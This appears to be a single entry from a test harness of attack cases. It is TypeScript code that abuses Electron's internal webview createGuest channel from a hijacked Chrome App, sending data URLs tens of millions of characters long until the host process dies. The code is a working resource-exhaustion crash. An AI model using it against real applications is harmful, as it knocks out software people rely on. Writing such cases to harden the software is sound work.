import type { Attack } from '../attack.ts'

/** Of what comes by Electron's own channels it unpacks everything before anybody can look at it. */
export const appLongWords: Attack = {
  name: 'app-long-words',
  what: "a Chrome App that was taken over asks for guests as Electron's element does, at addresses of 50 million characters, without end",
  chromeApp: true,
  run: async ({ open, reduce }) => {
    const page = await open({ chromeApp: true })
    return page.run(
      async (length) => {
        const { findElectrons, pause, readTally } = window.siege
        const view = document.createElement('webview')
        document.documentElement.append(view)
        const { internal } = findElectrons(view)
        for (let i = 0; i < 100; i += 1) {
          const frame = document.createElement('iframe')
          document.documentElement.append(frame)
          void internal.createGuest(frame, i, { instanceId: i, src: `data:,${i}${'x'.repeat(length)}` })
          await pause(10)
        }
        await pause(20_000)
        return readTally()
      },
      Math.max(10_000_000, reduce(50_000_000)),
    )
  },
  answered: ['process ended'],
}
